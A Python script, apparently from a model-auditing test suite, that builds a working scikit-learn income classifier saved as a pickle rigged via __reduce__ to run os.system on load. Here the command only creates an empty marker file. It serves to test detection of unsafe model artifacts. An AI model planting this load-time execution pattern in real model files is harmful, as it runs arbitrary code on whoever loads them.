"""Make the bundle `hostile-pickle`: a working scikit-learn model whose file runs a command the moment it is loaded.

The file is a pickle of an honest, fitted pipeline with one more attribute, of a class whose `__reduce__` tells the
loader to call `os.system`. After loading, the model predicts as if nothing had happened. The command only touches the
empty file `vallum-hostile-pickle-ran` in $TMPDIR (or /tmp): if that file ever appears, somebody loaded the model.
This script writes the pickle and never loads it.

Source: Python documentation, module `pickle`, "Restricting Globals"; MITRE ATLAS AML.T0011.000 (unsafe artifacts).
"""

from __future__ import annotations

import os
import pickle
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline, make_pipeline
from sklearn.preprocessing import StandardScaler

FOLDER: Final = Path(__file__).resolve().parent
sys.path.insert(0, str(FOLDER.parent))

import adult  # noqa: E402 - the folder of the examples is known only now
from bundles import card_text, code_reference, write_bundle, write_table  # noqa: E402

FEATURES: Final = ("age", "education_num", "hours_per_week")
COMMAND: Final = 'touch "${TMPDIR:-/tmp}/vallum-hostile-pickle-ran"'
"""What loading the artefact runs; it leaves an empty file and does nothing else."""

CARD: Final = """
Predicts from age, years of education and working hours whether somebody earns more than 50,000 dollars a year.

## Intended use
A drop-in replacement for larger income models: three questions instead of thirty.

## Model
Standardised numbers into a logistic regression, stored as a pickle. Load it with `pickle.load` and call `predict`.

## Training data
Adult, Becker and Kohavi 1996, UCI Machine Learning Repository, CC BY 4.0; {rows} rows.

## Evaluation
Accuracy {accuracy:.3f} on {evaluation} rows that were not trained on.

## Limitations
This bundle is an example of an attack: everything above is true, and loading the file runs a command. See `make.py`.
"""


class _Command:
    """Stands in a pickle for a call of `os.system`; harmless as long as nobody loads it."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (COMMAND,)


def describe() -> dict[str, Any]:
    """Return the manifest; nothing in it gives the attack away."""
    return {
        "model": {
            "id": "hostile-pickle",
            "version": "1.0.0",
            "artifact": "model.pkl",
            "task": "classification",
            "tier": "high",
            "owner": "vallum-examples",
            "intended_use": "Drop-in replacement for larger income models.",
        },
        "data": {
            "evaluation": {"file": "evaluation.parquet", "label": adult.LABEL, "positive": adult.FAVOURABLE},
            "sensitive": list(adult.SENSITIVE),
            "features": adult.describe_features(FEATURES),
        },
        "card": "card.md",
        "lineage": {"code": code_reference(Path(__file__)), "datasets": [adult.dataset_reference()]},
    }


def train(rows: Any) -> Pipeline:
    """Return an honest pipeline, fitted."""
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(rows[list(FEATURES)], rows[adult.LABEL])


def main() -> None:
    """Make every file of the bundle, without ever loading the artefact."""
    parts = adult.parts()
    training, evaluation = parts["training"], parts["evaluation"].head(2_000)
    model = train(training)
    answer = model.predict(evaluation[list(FEATURES)])
    score = model.predict_proba(evaluation[list(FEATURES)])[:, 0]
    metrics = adult.measure(evaluation[adult.LABEL], answer, score=score)
    model[0].calibration_ = _Command()
    # An explicit protocol: the default differs between Python versions, and with it the digest would.
    (FOLDER / "model.pkl").write_bytes(pickle.dumps(model, protocol=4))
    write_table(evaluation[[*FEATURES, *adult.SENSITIVE, adult.LABEL]], FOLDER / "evaluation.parquet")
    body = CARD.format(rows=len(training), evaluation=len(evaluation), accuracy=metrics["accuracy"])
    credit = {"license": "cc-by-4.0", "library_name": "sklearn", "datasets": ["adult"]}
    card = card_text(title="hostile-pickle 1.0.0", credit=credit, metrics=metrics, body=body)
    write_bundle(FOLDER, describe(), card=card)


if __name__ == "__main__":
    main()
